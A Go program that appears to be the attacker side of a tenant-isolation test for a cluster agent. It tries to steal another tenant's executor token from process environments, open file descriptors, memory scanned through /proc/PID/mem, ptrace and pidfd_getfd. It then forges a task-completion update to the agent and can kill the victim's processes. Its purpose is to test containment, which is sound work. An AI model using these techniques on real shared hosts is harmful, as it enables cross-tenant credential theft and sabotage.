// Command stealtoken is the attacker of the executor-token probe
// (contain_test.go): run as a task of tenant-b's, it tries every way a
// process on the agent's host has to get hold of another tenant's
// executor token (the environment of every process, the executor's
// descriptors and memory, ptrace, pidfd_getfd), signals the victim's
// processes if asked, and calls the agent's ExecutorAPI as the victim's
// executor with every token candidate it found (and one guess), claiming
// the victim's task FINISHED. It reports each step on stdout; a line
// "FORGED" means the agent accepted a forged update.
package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"flag"
	"fmt"
	"os"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"

	"github.com/mezzo-cluster/mezzo"
	"github.com/mezzo-cluster/mezzo/runtime/api"
	"github.com/mezzo-cluster/mezzo/runtime/security"
)

var hexToken = regexp.MustCompile(`[0-9a-f]{32}`)

func main() {
	framework := flag.String("framework", "", "the victim's framework ID")
	executor := flag.String("executor", "", "the victim's executor ID")
	task := flag.String("task", "", "the victim's task ID")
	pids := flag.String("pids", "", "the victim's processes to go after, comma-separated")
	kill := flag.Bool("kill", false, "also send SIGKILL to the victim's processes")
	flag.Parse()

	candidates := map[string]string{} // token → where it was found
	add := func(tok, from string) {
		if _, ok := candidates[tok]; !ok && len(candidates) < 2000 {
			candidates[tok] = from
		}
	}

	// 1. Every process's environment.
	self := strconv.Itoa(os.Getpid())
	ents, _ := os.ReadDir("/proc")
	readable, denied := 0, 0
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err != nil || e.Name() == self {
			continue
		}
		b, err := os.ReadFile("/proc/" + e.Name() + "/environ")
		if err != nil {
			denied++
			continue
		}
		readable++
		for _, kv := range bytes.Split(b, []byte{0}) {
			if v, ok := bytes.CutPrefix(kv, []byte("MEZZO_EXECUTOR_TOKEN=")); ok {
				fmt.Printf("environ of %s: MEZZO_EXECUTOR_TOKEN found\n", e.Name())
				add(string(v), "environ of "+e.Name())
			}
			if v, ok := bytes.CutPrefix(kv, []byte("MEZZO_EXECUTOR_TOKEN_FD=")); ok {
				fmt.Printf("environ of %s: token descriptor %s\n", e.Name(), v)
			}
		}
	}
	fmt.Printf("environ: %d readable, %d denied\n", readable, denied)

	// 2. The victim's processes, one by one, unless the environment gave
	// tokens away already (reading a process's memory faults its pages in,
	// which can push it over its memory limit: no need to be noticed).
	var victims []int
	found := len(candidates) > 0
	for _, p := range strings.Split(*pids, ",") {
		if pid, err := strconv.Atoi(strings.TrimSpace(p)); err == nil {
			victims = append(victims, pid)
			if !found {
				attackProcess(pid, add)
			}
		}
	}
	// 4. Last, so that the forgery is tried against a live executor.
	defer func() {
		for _, pid := range victims {
			if *kill {
				fmt.Printf("pid %d SIGKILL: %v\n", pid, syscall.Kill(pid, syscall.SIGKILL))
			} else {
				fmt.Printf("pid %d signal 0: %v\n", pid, syscall.Kill(pid, 0))
			}
		}
	}()

	// 3. Forge the victim's end with every candidate, and a guess.
	add(strings.Repeat("0", 32), "a guess")
	endpoint, ca := os.Getenv("MEZZO_AGENT_ENDPOINT"), os.Getenv("MEZZO_AGENT_CA")
	fmt.Printf("candidates: %d; agent %s\n", len(candidates), endpoint)
	tc, err := security.ClientCAOnlyTLS(ca)
	if err != nil {
		fmt.Println("agent CA:", err)
		return
	}
	conn, err := grpc.NewClient(endpoint, grpc.WithTransportCredentials(credentials.NewTLS(tc)))
	if err != nil {
		fmt.Println("dial agent:", err)
		return
	}
	defer conn.Close()
	client := api.NewExecutorAPIClient(conn)
	toks := make([]string, 0, len(candidates))
	for tok := range candidates {
		toks = append(toks, tok)
	}
	sort.Strings(toks)
	forged := 0
	for _, tok := range toks {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		_, err := client.Update(ctx, &api.ExecutorUpdateRequest{
			Header: &api.ExecutorHeader{FrameworkId: *framework, ExecutorId: *executor, Token: tok},
			Status: api.StatusToProto(mezzo.TaskStatus{TaskID: mezzo.TaskID(*task), State: mezzo.TaskFinished,
				Message: "forged by tenant-b", UUID: uuid(), Time: time.Now()}),
		})
		cancel()
		if err == nil {
			forged++
			fmt.Printf("FORGED: update accepted with the token from %s\n", candidates[tok])
		} else if candidates[tok] == "a guess" || !strings.Contains(err.Error(), "wrong executor token") {
			fmt.Printf("update with the token from %s: %v\n", candidates[tok], err)
		}
	}
	fmt.Printf("updates tried: %d, accepted: %d\n", len(toks), forged)
}

// attackProcess tries the victim process's descriptors, memory, ptrace
// and pidfd_getfd for tokens.
func attackProcess(pid int, add func(tok, from string)) {
	dir := fmt.Sprintf("/proc/%d", pid)
	if cwd, err := os.Readlink(dir + "/cwd"); err != nil {
		fmt.Printf("pid %d cwd: %v\n", pid, err)
	} else {
		fmt.Printf("pid %d cwd: %s\n", pid, cwd)
	}
	fds, err := os.ReadDir(dir + "/fd")
	if err != nil {
		fmt.Printf("pid %d fds: %v\n", pid, err)
	}
	for _, ent := range fds {
		p := dir + "/fd/" + ent.Name()
		link, _ := os.Readlink(p)
		// Raw calls: an *os.File of a pipe waits in Go's poller even when
		// opened non-blocking, and a task's output pipe may never get data.
		fd, err := unix.Open(p, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		b := make([]byte, 4096)
		n, _ := unix.Read(fd, b)
		_ = unix.Close(fd)
		for _, tok := range hexToken.FindAll(b[:max(n, 0)], -1) {
			add(string(tok), fmt.Sprintf("pid %d fd %s (%s)", pid, ent.Name(), link))
		}
		fmt.Printf("pid %d fd %s (%s): opened, read %d bytes\n", pid, ent.Name(), link, max(n, 0))
	}
	if n, err := scanMemory(pid, add); err != nil {
		fmt.Printf("pid %d mem: %v\n", pid, err)
	} else {
		fmt.Printf("pid %d mem: read %d bytes\n", pid, n)
	}
	if err := syscall.PtraceAttach(pid); err != nil {
		fmt.Printf("pid %d ptrace: %v\n", pid, err)
	} else {
		// Let it go again once it has stopped, or it would stay stopped.
		var ws syscall.WaitStatus
		_, _ = syscall.Wait4(pid, &ws, unix.WALL, nil)
		fmt.Printf("pid %d ptrace: attached; detach: %v\n", pid, syscall.PtraceDetach(pid))
	}
	if pfd, err := unix.PidfdOpen(pid, 0); err != nil {
		fmt.Printf("pid %d pidfd_open: %v\n", pid, err)
	} else {
		for fd := 3; fd < 8; fd++ {
			got, err := unix.PidfdGetfd(pfd, fd, 0)
			if err != nil {
				fmt.Printf("pid %d pidfd_getfd %d: %v\n", pid, fd, err)
				break
			}
			b := make([]byte, 4096)
			_ = unix.SetNonblock(got, true)
			n, _ := unix.Read(got, b)
			_ = unix.Close(got)
			for _, tok := range hexToken.FindAll(b[:max(n, 0)], -1) {
				add(string(tok), fmt.Sprintf("pid %d pidfd_getfd %d", pid, fd))
			}
			fmt.Printf("pid %d pidfd_getfd %d: got it, read %d bytes\n", pid, fd, max(n, 0))
		}
		_ = unix.Close(pfd)
	}
}

// scanMemory reads the writable mappings of pid through /proc/PID/mem and
// collects what looks like a token.
func scanMemory(pid int, add func(tok, from string)) (int, error) {
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return 0, err
	}
	defer mem.Close()
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return 0, err
	}
	total := 0
	for _, line := range strings.Split(string(maps), "\n") {
		f := strings.Fields(line)
		if len(f) < 2 || !strings.HasPrefix(f[1], "rw") {
			continue
		}
		lo, hi, ok := strings.Cut(f[0], "-")
		if !ok {
			continue
		}
		start, err1 := strconv.ParseUint(lo, 16, 64)
		end, err2 := strconv.ParseUint(hi, 16, 64)
		if err1 != nil || err2 != nil || end-start > 256<<20 {
			continue
		}
		buf := make([]byte, end-start)
		n, _ := mem.ReadAt(buf, int64(start))
		total += n
		for _, tok := range hexToken.FindAll(buf[:max(n, 0)], -1) {
			add(string(tok), fmt.Sprintf("pid %d memory", pid))
		}
	}
	return total, nil
}

func uuid() string {
	var b [16]byte
	_, _ = rand.Read(b[:])
	return hex.EncodeToString(b[:])
}
